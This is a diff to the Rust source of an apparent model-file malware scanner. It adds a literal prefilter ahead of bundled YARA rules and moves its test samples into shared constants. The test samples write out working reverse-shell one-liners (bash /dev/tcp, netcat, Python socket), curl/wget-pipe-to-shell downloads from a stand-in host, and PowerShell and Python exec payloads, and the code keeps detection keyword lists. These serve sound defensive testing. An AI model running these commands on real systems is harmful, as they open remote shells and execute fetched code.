@@ -37,6 +37,61 @@ pub const BUNDLED: &[(&str, &str)] = &[
     ("payloads.yar", include_str!("rules/payloads.yar")),
 ];
 
+/// Literals of which every bundled rule needs at least one. A buffer containing none of them
+/// cannot match a bundled rule and skips the YARA engine, whose per-buffer setup and per-byte
+/// atom hashing were a tenth of a many-small-files scan. Keep in step with `rules/*.yar`:
+/// each rule's strings, and the strings its condition requires, contain one of these
+/// (`prefilter_never_hides_a_match` checks every rule's samples and the fixture corpus).
+/// Compared exactly; [`BUNDLED_ATOMS_NOCASE`] holds those of `nocase` strings.
+const BUNDLED_ATOMS: &[&str] = &[
+    // MG_EICAR_Test_Signature
+    "EICAR-STANDARD-ANTIVIRUS-TEST-FILE",
+    // MG_Python_Import_Exec
+    "__import__",
+    // MG_Python_Decode_Exec
+    "exec",
+    "eval",
+    // MG_Pickle_Dirty_Exec: `builtins` / `__builtin__` are required by its condition
+    "builtin",
+    // MG_Reverse_Shell_Dev_Tcp
+    "/dev/",
+    // MG_Reverse_Shell_Netcat (both strings name /bin/…sh)
+    "/bin/",
+    // MG_Reverse_Shell_Python (every alternative of its condition names socket)
+    "socket",
+    // MG_Download_And_Execute
+    "curl",
+    "wget",
+];
+
+/// Starts of the `nocase` literals (MG_Download_And_Execute), searched in every ASCII case:
+/// three letters have eight spellings, a whole word hundreds, and a few dozen exact literals
+/// keep the search on its vectorised path.
+const BUNDLED_ATOMS_NOCASE: &[&str] = &["pow", "iex", "cer"];
+
+/// Every ASCII-case spelling of `word`.
+fn case_variants(word: &str) -> Vec<Vec<u8>> {
+    let mut out = vec![Vec::new()];
+    for b in word.bytes() {
+        let (lo, up) = (b.to_ascii_lowercase(), b.to_ascii_uppercase());
+        out = out
+            .into_iter()
+            .flat_map(|v| {
+                let mut a = v.clone();
+                a.push(lo);
+                let mut spellings = vec![a];
+                if up != lo {
+                    let mut c = v;
+                    c.push(up);
+                    spellings.push(c);
+                }
+                spellings
+            })
+            .collect();
+    }
+    out
+}
+
 /// Namespace of the bundled rules (user files get one namespace each: their path).
 const BUNDLED_NAMESPACE: &str = "modelguard";
 
@@ -77,6 +132,8 @@ pub struct Signatures {
 
 struct Compiled {
     scanner: boreal::Scanner,
+    /// For the bundled set alone: [`BUNDLED_ATOMS`]. User rules are never prefiltered.
+    prefilter: Option<aho_corasick::AhoCorasick>,
     /// `sha256:` of the bundled version and every rule file's name and text.
     digest: String,
     /// User rule files compiled in, for [`Signatures::files`].
@@ -186,6 +243,9 @@ impl Signatures {
         let mut out = Vec::new();
         for (start, len) in windows {
             let data = crate::source::range(src, start, len).map_err(|e| e.to_string())?;
+            if c.prefilter.as_ref().is_some_and(|p| !p.is_match(&*data)) {
+                continue;
+            }
             scan_buffer(c, &data, start, &mut out)?;
         }
         Ok(out)
@@ -312,8 +372,22 @@ fn build(files: &[PathBuf]) -> Result<Compiled, SignatureError> {
             .string_max_nb_matches(MAX_MATCHES_PER_STRING)
             .match_max_length(256),
     );
+    // An automaton over a dozen literals cannot fail to build; if it ever did, every buffer
+    // simply goes to the YARA engine.
+    let prefilter = files
+        .is_empty()
+        .then(|| {
+            let mut atoms: Vec<Vec<u8>> = BUNDLED_ATOMS
+                .iter()
+                .map(|a| a.as_bytes().to_vec())
+                .collect();
+            atoms.extend(BUNDLED_ATOMS_NOCASE.iter().flat_map(|a| case_variants(a)));
+            aho_corasick::AhoCorasick::new(atoms).ok()
+        })
+        .flatten();
     Ok(Compiled {
         scanner,
+        prefilter,
         digest: format!("sha256:{}", crate::report::hex(&h.finalize())),
         files: files.to_vec(),
     })
@@ -414,6 +488,120 @@ mod tests {
         );
     }
 
+    /// One sample per bundled rule and alternative, with the rule it must fire.
+    const SAMPLES: &[(&str, &str)] = &[
+        (
+            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+            "MG_Reverse_Shell_Dev_Tcp",
+        ),
+        ("nc -e /bin/sh 10.0.0.1 4444", "MG_Reverse_Shell_Netcat"),
+        ("ncat 10.0.0.1 4444 -e /bin/bash", "MG_Reverse_Shell_Netcat"),
+        (
+            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f",
+            "MG_Reverse_Shell_Netcat",
+        ),
+        (
+            "python -c 'import socket,subprocess,os;s=socket.socket()'",
+            "MG_Reverse_Shell_Python",
+        ),
+        (
+            "s=socket.socket();s.connect((h,p));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")",
+            "MG_Reverse_Shell_Python",
+        ),
+        (
+            "curl -fsSL http://x.invalid/i.sh | sh",
+            "MG_Download_And_Execute",
+        ),
+        (
+            "wget -qO- http://x.invalid/i.sh | bash",
+            "MG_Download_And_Execute",
+        ),
+        (
+            "wget http://x.invalid/i.sh -O - | sudo bash",
+            "MG_Download_And_Execute",
+        ),
+        (
+            "powershell -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0A",
+            "MG_Download_And_Execute",
+        ),
+        (
+            "IEX (New-Object Net.WebClient).DownloadString('http://x')",
+            "MG_Download_And_Execute",
+        ),
+        ("__import__('os').system('id')", "MG_Python_Import_Exec"),
+        ("exec(base64.b64decode('aWQ='))", "MG_Python_Decode_Exec"),
+        (
+            "exec(__import__('zlib').decompress(b'x'))",
+            "MG_Python_Decode_Exec",
+        ),
+    ];
+
+    /// Benign text near each rule's triggers.
+    const NEAR_MISSES: &[&str] = &[
+        "#!/bin/sh\necho hello\n",
+        "curl -O https://example.com/model.bin",
+        "see /dev/tcp in the bash manual",
+        "import os\nos.path.join('a', 'b')\n",
+        "base64.b64decode(weights)",
+        "wget https://example.com/x.tar.gz && tar xf x.tar.gz",
+        "nc -l 8080",
+        "socket.socket() is created by the server",
+        "model.eval()",
+    ];
+
+    /// The literal prefilter is only a shortcut: whatever the rules match, it lets through.
+    /// Checked on every rule's samples (also upper-cased and embedded in other bytes), on
+    /// the near misses and on every file of the fixture corpus.
+    #[test]
+    fn prefilter_never_hides_a_match() {
+        let s = Signatures::bundled();
+        let c = s.inner.as_ref().unwrap();
+        let p = c.prefilter.as_ref().expect("bundled set has a prefilter");
+        let mut inputs: Vec<Vec<u8>> = vec![eicar()];
+        for &(t, _) in SAMPLES {
+            inputs.push(t.as_bytes().to_vec());
+            inputs.push(t.to_ascii_uppercase().into_bytes());
+            inputs.push([b"\x80\x04junk ".as_slice(), t.as_bytes(), b" tail"].concat());
+        }
+        inputs.extend(NEAR_MISSES.iter().map(|t| t.as_bytes().to_vec()));
+        inputs.push(b"cbuiltins\nexec\n(cbase64\nb64decode\n(S'aWQ='\ntRtR.".to_vec());
+        let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/fixtures");
+        let mut dirs = vec![root];
+        while let Some(d) = dirs.pop() {
+            for e in std::fs::read_dir(&d).unwrap().flatten() {
+                let path = e.path();
+                if path.is_dir() {
+                    dirs.push(path);
+                } else if let Ok(data) = std::fs::read(&path) {
+                    inputs.push(data);
+                }
+            }
+        }
+        assert!(inputs.len() > 200, "fixture corpus not found");
+        let mut matched = 0;
+        for data in &inputs {
+            let mut full = Vec::new();
+            scan_buffer(c, data, 0, &mut full).unwrap();
+            if !full.is_empty() {
+                matched += 1;
+                assert!(
+                    p.is_match(data.as_slice()),
+                    "prefilter would hide {:?} in {:?}",
+                    full.iter().map(|m| &m.rule).collect::<Vec<_>>(),
+                    String::from_utf8_lossy(data.get(..200).unwrap_or(data))
+                );
+            }
+        }
+        assert!(
+            matched >= SAMPLES.len(),
+            "only {matched} inputs matched a rule"
+        );
+        // ... and it does skip ordinary data.
+        assert!(!p.is_match(b"\x80\x02}q\x00X\x06\x00\x00\x00weightq\x01K\x01s."));
+        assert_eq!(case_variants("iEx").len(), 8);
+        assert!(case_variants("a-1").contains(&b"A-1".to_vec()));
+    }
+
     #[test]
     fn shells_and_payloads() {
         let s = Signatures::bundled();
@@ -424,65 +612,10 @@ mod tests {
                 .map(|m| m.rule)
                 .collect()
         };
-        for (text, rule) in [
-            (
-                "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
-                "MG_Reverse_Shell_Dev_Tcp",
-            ),
-            ("nc -e /bin/sh 10.0.0.1 4444", "MG_Reverse_Shell_Netcat"),
-            ("ncat 10.0.0.1 4444 -e /bin/bash", "MG_Reverse_Shell_Netcat"),
-            (
-                "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f",
-                "MG_Reverse_Shell_Netcat",
-            ),
-            (
-                "python -c 'import socket,subprocess,os;s=socket.socket()'",
-                "MG_Reverse_Shell_Python",
-            ),
-            (
-                "s=socket.socket();s.connect((h,p));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")",
-                "MG_Reverse_Shell_Python",
-            ),
-            (
-                "curl -fsSL http://x.invalid/i.sh | sh",
-                "MG_Download_And_Execute",
-            ),
-            (
-                "wget -qO- http://x.invalid/i.sh | bash",
-                "MG_Download_And_Execute",
-            ),
-            (
-                "wget http://x.invalid/i.sh -O - | sudo bash",
-                "MG_Download_And_Execute",
-            ),
-            (
-                "powershell -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0A",
-                "MG_Download_And_Execute",
-            ),
-            (
-                "IEX (New-Object Net.WebClient).DownloadString('http://x')",
-                "MG_Download_And_Execute",
-            ),
-            ("__import__('os').system('id')", "MG_Python_Import_Exec"),
-            ("exec(base64.b64decode('aWQ='))", "MG_Python_Decode_Exec"),
-            (
-                "exec(__import__('zlib').decompress(b'x'))",
-                "MG_Python_Decode_Exec",
-            ),
-        ] {
+        for &(text, rule) in SAMPLES {
             assert_eq!(hits(text), vec![rule.to_string()], "{text}");
         }
-        for benign in [
-            "#!/bin/sh\necho hello\n",
-            "curl -O https://example.com/model.bin",
-            "see /dev/tcp in the bash manual",
-            "import os\nos.path.join('a', 'b')\n",
-            "base64.b64decode(weights)",
-            "wget https://example.com/x.tar.gz && tar xf x.tar.gz",
-            "nc -l 8080",
-            "socket.socket() is created by the server",
-            "model.eval()",
-        ] {
+        for &benign in NEAR_MISSES {
             assert!(hits(benign).is_empty(), "{benign}: {:?}", hits(benign));
         }
     }
